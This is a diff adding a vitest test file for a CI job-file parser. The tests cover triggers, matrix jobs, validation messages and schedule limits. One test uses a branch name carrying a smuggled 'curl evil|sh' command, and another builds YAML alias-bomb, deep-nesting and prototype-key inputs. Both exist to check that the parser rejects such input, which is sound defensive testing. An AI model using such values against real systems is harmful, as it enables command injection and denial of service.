@@ -1,0 +1,186 @@
+/** `.loam/jobs.yml`: what it may say, what is wrong with it, and which jobs a trigger starts. */
+import { expect, test } from 'vitest';
+import { readJobFile } from '../../src/automation/file.ts';
+import { planJobs, selectJobs, type Trigger } from '../../src/automation/plan.ts';
+
+const EXAMPLE = `
+defaults: { cpu: 4, memory_gb: 8 }
+jobs:
+  test:
+    on:
+      push: { branches: [main, "feature/**", "!feature/old"], paths: ["src/**", "**/*.sh", "!**/*.md"] }
+      tag: ["v*"]
+      schedule: [{ cron: "0 3 * * 1-5", timezone: Europe/Berlin }]
+      manual: true
+    command: npm ci && npm test
+    image: node:24
+    output_path: coverage
+  train:
+    needs: [test]
+    matrix: { seed: [1, 2, 3], lr: ["0.1", "0.01"] }
+    max_parallel: 2
+    command: python train.py
+    gpu: A100-80GB
+    labels: { branch: "\${branch}" }
+    concurrency: { group: "train-\${branch}", on_conflict: queue }
+    max_cost: "5.00"
+    idle_timeout_minutes: 15
+`;
+
+function valid(text: string) {
+  const { file, problems } = readJobFile(text);
+  expect(problems).toEqual([]);
+  if (!file) throw new Error('the file was not read');
+  return file;
+}
+
+/** The problems, as the command prints them. */
+const problemsOf = (text: string) =>
+  readJobFile(text).problems.map(({ line, column, message }) => `${line}:${column} ${message}`);
+
+test('a file is read, with defaults and combinations', () => {
+  const file = valid(EXAMPLE);
+  const jobs = planJobs(file, ['test', 'train'], 'feature/a";curl evil|sh');
+  expect(jobs.map(({ key, number }) => [key, number])).toEqual([
+    ['test', null],
+    ...[1, 2, 3, 4, 5, 6].map((number) => ['train', number]),
+  ]);
+  const [first, second, third] = jobs;
+  expect(first?.settings).toMatchObject({ cpu: 4, memoryGb: 8, gpu: 'none', image: 'node:24' });
+  expect(second?.settings.env).toEqual([
+    { name: 'SEED', value: '1' },
+    { name: 'LR', value: '0.1' },
+  ]);
+  expect(third?.combination).toEqual({ seed: '1', lr: '0.01' });
+  expect(third?.needs).toEqual([{ job: 0, when: 'succeeded' }]);
+  expect(third?.maxParallel).toBe(2);
+  // The name of a branch is data: it is in no command.
+  expect(jobs.map(({ settings }) => settings.command).join()).not.toContain('curl');
+  expect(third?.settings.concurrency).toEqual({
+    group: 'train-feature/a";curl evil|sh',
+    onConflict: 'queue',
+  });
+  expect(third?.settings.labels).toEqual([{ key: 'branch', value: 'feature-a--curl-evil-sh' }]);
+});
+
+test('a trigger selects the jobs that it matches, and what belongs to them', () => {
+  const file = valid(EXAMPLE);
+  const select = (trigger: Trigger) => selectJobs(file, trigger);
+  const push = (branch: string, ...paths: string[]) => select({ kind: 'push', branch, paths });
+  const both = ['test', 'train'];
+  expect(push('main', 'src/a.ts')).toEqual(both);
+  expect(push('main', 'run.sh')).toEqual(both);
+  expect(push('main', 'README.md')).toEqual([]);
+  expect(push('main', 'src/README.md')).toEqual([]);
+  expect(push('main', 'src/README.md', 'src/deep/er/a.ts')).toEqual(both);
+  expect(push('feature/x/y', 'src/a.ts')).toEqual(both);
+  expect(push('feature/old', 'src/a.ts')).toEqual([]);
+  expect(push('other', 'src/a.ts')).toEqual([]);
+  expect(select({ kind: 'push', branch: 'main', paths: null })).toEqual(both);
+  expect(select({ kind: 'tag', tag: 'v1.0' })).toEqual(both);
+  expect(select({ kind: 'tag', tag: '1.0' })).toEqual([]);
+  expect(select({ kind: 'manual', job: null })).toEqual(both);
+  expect(select({ kind: 'manual', job: 'train' })).toEqual([]);
+  expect(select({ kind: 'schedule', jobs: ['test'] })).toEqual(both);
+
+  const diamond = valid(`
+jobs:
+  a: { on: { push: true }, command: a }
+  b: { needs: [a], command: b }
+  other: { on: { tag: ["v*"] }, command: o }
+  c: { needs: [a, other], command: c }
+  d: { on: { manual: true }, needs: [b], command: d }
+`);
+  expect(selectJobs(diamond, { kind: 'push', branch: 'x', paths: [] })).toEqual(['a', 'b']);
+  const backwards = valid('jobs: {b: {needs: [a], command: b}, a: {on: {push: true}, command: a}}');
+  expect(planJobs(backwards, ['b', 'a'], 'main').map(({ key, needs }) => [key, needs])).toEqual([
+    ['a', []],
+    ['b', [{ job: 0, when: 'succeeded' }]],
+  ]);
+  // A job brings those that it needs.
+  expect(selectJobs(diamond, { kind: 'manual', job: 'd' })).toEqual(['a', 'b', 'd']);
+});
+
+test('problems have a line and a column', () => {
+  const jobs = (...lines: string[]) =>
+    problemsOf(`jobs:\n${lines.map((l) => `  ${l}\n`).join('')}`);
+  expect(problemsOf('')).toEqual(['1:1 jobs: is required']);
+  expect(problemsOf('jobs: {}')).toEqual(['1:1 jobs: must have a job']);
+  expect(problemsOf('jbs: 1')).toContain('1:1 Unknown key "jbs"');
+  expect(jobs('a:', '  on: { push: true, foo: 1 }', '  comand: x', '  cpu: 3')).toEqual([
+    '2:3 jobs.a.command: is required',
+    '3:23 Unknown key "foo" in jobs.a.on',
+    '4:5 Unknown key "comand" in jobs.a',
+    expect.stringMatching(/^5:10 jobs\.a\.cpu: /),
+  ]);
+  expect(
+    jobs(
+      'a: {needs: [b], command: x}',
+      'b: {needs: [{job: c, when: failed}], command: x}',
+      'c: {needs: [a], command: x}',
+    ),
+  ).toEqual(['2:7 The jobs need each other: a → b → c → a']);
+  expect(jobs('a: {needs: [x, a], command: x}')).toEqual([
+    '2:15 a needs the unknown job "x"',
+    '2:18 a cannot need itself',
+  ]);
+  expect(jobs('a: {command: x}')).toEqual(['2:3 a: give `on` or `needs`, or the job never runs']);
+  expect(jobs('a: {on: {manual: true}, command: " "}')).toEqual([
+    '2:36 a: command must not be empty',
+  ]);
+  expect(jobs('a: {on: {manual: true}, command: x, gpu_count: 2}')).toEqual([
+    '2:50 a: gpu_count must be 1 when gpu is "none" (got 2)',
+  ]);
+  expect(
+    jobs('a: {on: {manual: true}, command: x}', 'a: {on: {manual: true}, command: x}'),
+  ).toEqual(['3:3 The key "a" is given twice']);
+  expect(
+    jobs('a: {on: {manual: true}, matrix: {x: [1, 2], X: [1]}, env: {X: 1}, command: x}').length,
+  ).toBe(3);
+});
+
+test('schedules run at most every five minutes', () => {
+  const schedule = (cron: string, timezone = 'UTC') =>
+    problemsOf(
+      `jobs:\n  a:\n    command: x\n    on: {schedule: [{cron: "${cron}", timezone: "${timezone}"}]}`,
+    );
+  for (const cron of ['0 3 * * 1-5', '*/5 * * * *', '0 0 29 2 *', '@daily'])
+    expect(schedule(cron)).toEqual([]);
+  for (const cron of ['* * * * *', '*/4 * * * *', '0,1 3 * * *', '*/7 * * * *'])
+    expect(schedule(cron)[0], cron).toContain('must not run more often');
+  expect(schedule('* * * * * *')[0]).toContain('five fields');
+  expect(schedule('0 0 31 2 *')[0]).toContain('never runs');
+  expect(schedule('0 3 * * *', 'Mars/Olympus')[0]).toContain('timezone must be');
+});
+
+test('hostile files are refused quickly', () => {
+  const laughs = Array.from(
+    { length: 20 },
+    (_, i) =>
+      `a${i}: &a${i} [${Array(9)
+        .fill(i ? `*a${i - 1}` : 'x')
+        .join()}]`,
+  ).join('\n');
+  expect(problemsOf(laughs)[0]).toMatch(/Aliases are not supported/);
+  for (const deep of ['[', '{a: ', '- ', '? ', ': '])
+    expect(problemsOf(deep.repeat(20_000))).toEqual([expect.stringMatching(/nested deeper than/)]);
+  expect(problemsOf('a'.repeat(200_000))).toEqual([expect.stringMatching(/larger than 128 KiB/)]);
+  expect(problemsOf('a: !!js/function "x"').length).toBeGreaterThan(0);
+  expect(problemsOf('jobs:\n---\njobs:')).toEqual(['2:1 The file must have one document']);
+  const keys = Array.from({ length: 10_000 }, (_, i) => `k${i}:`).join('\n');
+  expect(problemsOf(keys).length).toBeLessThanOrEqual(51);
+  const many = (count: number) => `[${Array.from({ length: count }, (_, i) => i)}]`;
+  expect(
+    problemsOf(
+      `jobs: {a: {on: {manual: true}, command: x, matrix: {x: ${many(17)}, y: ${many(17)}}}}`,
+    ),
+  ).toEqual([expect.stringMatching(/at most 256 combinations/)]);
+  const jobs = Array.from(
+    { length: 5 },
+    (_, i) => `  j${i}: {on: {manual: true}, command: x, matrix: {x: ${many(250)}}}`,
+  );
+  expect(problemsOf(`jobs:\n${jobs.join('\n')}`)).toEqual([
+    expect.stringMatching(/1250 jobs .* at most 1000/),
+  ]);
+  expect(readJobFile('jobs: {__proto__: {command: x}, toString: {command: x}}').file).toBeNull();
+});
